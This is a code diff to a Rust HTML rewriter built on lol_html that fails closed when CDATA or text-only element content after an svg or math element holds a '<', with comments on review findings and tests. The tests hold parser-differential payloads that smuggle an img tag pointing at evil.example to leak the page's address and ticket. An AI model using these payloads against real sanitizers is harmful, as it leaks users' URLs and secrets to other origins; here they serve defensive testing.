@@ -51,8 +51,9 @@
 //!     same document to both. Outside reviews leaked the ticket through
 //!     each narrower rule tried first.
 //!
-//! - A CDATA section holding a `<` ends the page (see [`cdata`]): a
-//!   preload scanner reads tags in it that lol_html reads as text; and an
+//! - Text holding a `<` that a browser may read as markup ends the page
+//!   (see [`hidden_markup`]): a CDATA section, and after the first `<svg>`
+//!   or `<math>` a text-only element's content; and an
 //!   `annotation-xml` with two `encoding`s is removed (see
 //!   [`annotation_xml`]).
 //!
@@ -219,7 +220,10 @@ pub fn rewriter<'h, O: lol_html::OutputSink + Send>(
         // itself in SVG or MathML, which can outlast the element (after a
         // self-closed `<svg/>`, review 15). This costs about 40 % more on a
         // link-dense page (many short texts).
-        .append_document_content_handler(lol_html::doc_text!(cdata))
+        .append_document_content_handler(lol_html::doc_text!({
+            let page = page.clone();
+            move |text| hidden_markup(&page, text)
+        }))
         .with_encoding(encoding)
         .with_adjust_charset_on_meta_tag(true)
         .with_memory_settings(
@@ -230,22 +234,36 @@ pub fn rewriter<'h, O: lol_html::OutputSink + Send>(
     Some(HtmlRewriter::new(settings, sink))
 }
 
-/// A CDATA section (wherever lol_html reads one) holding a `<` ends the
-/// page there (fails closed). A browser reads it as text only where it
-/// agrees with lol_html that this is SVG or MathML; its preload scanner
-/// never does (it ends `<![CDATA[` at the first `>` and fetches the tags it
-/// then sees, with their `referrerpolicy` or a `<meta name=referrer>`:
-/// review 14 had Chromium send the page's address, ticket and all, to
-/// another origin), and where lol_html's SVG outlasts the browser's (after
-/// a self-closed `<svg/>`, review 15) the browser's own parser reads the
-/// tags. Writing each `<` as `]]>&lt;<![CDATA[` was tried first: the same
-/// text where both agree, but where the browser reads raw text (a
-/// `<style>` after such an `<svg/>`) it moves the end of that text to a
-/// later `</style>`, perhaps inside what lol_html reads as an attribute.
-/// A section without `<` can hide no tag and no end of raw text.
-fn cdata(text: &mut TextChunk<'_>) -> HandlerResult {
-    if text.text_type() == TextType::CDataSection && text.as_str().contains('<') {
-        return Err("a CDATA section holds a '<' (URL mode ends the page there)".into());
+/// Text that a browser may read as markup ends the page there (fails
+/// closed), when it holds a `<`: a CDATA section wherever lol_html reads
+/// one, and, from the page's first `<svg>` or `<math>` on, the content of
+/// a text-only element (`style`, `script`, `textarea`, …). A browser reads
+/// a CDATA section as text only where it agrees with lol_html that this
+/// is SVG or MathML; its preload scanner never does (it ends `<![CDATA[` at
+/// the first `>` and fetches the tags it then sees, with their
+/// `referrerpolicy` or a `<meta name=referrer>`: review 14 had Chromium
+/// send the page's address, ticket and all, to another origin). And
+/// lol_html's idea of where SVG and MathML begin and end is not the
+/// browser's: after a self-closed `<svg/>` it still reads CDATA (review
+/// 15); after `<svg><foreignObject><div></foreignObject></svg></div>
+/// </foreignObject>` it reads HTML where the browser is back in SVG, and a
+/// `<style>` it reads as text holds a real `<img>` to the browser (review
+/// 16). Writing each `<` as `]]>&lt;<![CDATA[` was tried first: the same
+/// text where both agree, but where the browser reads raw text it moves
+/// the end of that text to a later `</style>`, perhaps inside what lol_html
+/// reads as an attribute. Text without `<` hides no tag.
+fn hidden_markup(page: &Page, text: &mut TextChunk<'_>) -> HandlerResult {
+    let suspect = match text.text_type() {
+        TextType::Data => false,
+        TextType::CDataSection => true,
+        TextType::PlainText | TextType::RCData | TextType::RawText | TextType::ScriptData => {
+            page.diverged.load(Ordering::Relaxed)
+        }
+    };
+    if suspect && text.as_str().contains('<') {
+        return Err(
+            "text a browser may read as markup holds a '<' (URL mode ends the page there)".into(),
+        );
     }
     Ok(())
 }
@@ -544,6 +562,19 @@ mod tests {
                 assert!(!out.contains("evil"), "{page}: {out}");
             }
         }
+        // lol_html back in HTML where the browser is in SVG again (review
+        // 16): what it reads as a style's text is a real <img> there.
+        for page in [
+            "<p>before<svg><foreignObject><div></foreignObject></svg></div></foreignObject><style><img referrerpolicy=unsafe-url src=http://evil.example/></style>",
+            "<p>before<math><mi><div></mi></math></div></mi><textarea><img src=http://evil.example/></textarea>",
+            "<p>before<svg></svg><script>if (a<b) x('http://evil.example/')</script>",
+        ] {
+            let out = whole(page);
+            assert!(out.starts_with("<p>before"), "{page}: {out}");
+            assert!(!out.contains("evil"), "{page}: {out}");
+        }
+        let script = "<script>if (a<b) go('/x')</script><svg><style>.a > .b {}</style></svg><script>go()</script>";
+        assert_eq!(all_ways(script), script);
         let kept =
             "<svg><style><![CDATA[.a > .b { fill: red }]]></style></svg><a href=\"/x\">x</a>";
         assert_eq!(all_ways(kept), kept);
@@ -559,7 +590,9 @@ mod tests {
     fn an_annotation_xml_with_two_encodings_is_removed() {
         let page = "<math><annotation-xml encoding=x encoding=text/html><style>\
                     <img referrerpolicy=unsafe-url src=http://evil.example/></style></annotation-xml></math><p>after";
-        assert_eq!(all_ways(page), "<math></math><p>after");
+        assert!(!whole(page).contains("evil"));
+        let two = "<math><annotation-xml encoding=x encoding=text/html><b>x</b></annotation-xml></math><p>after";
+        assert_eq!(all_ways(two), "<math></math><p>after");
         let one = "<math><annotation-xml encoding=text/html><b>x</b></annotation-xml></math>";
         assert_eq!(all_ways(one), one);
     }
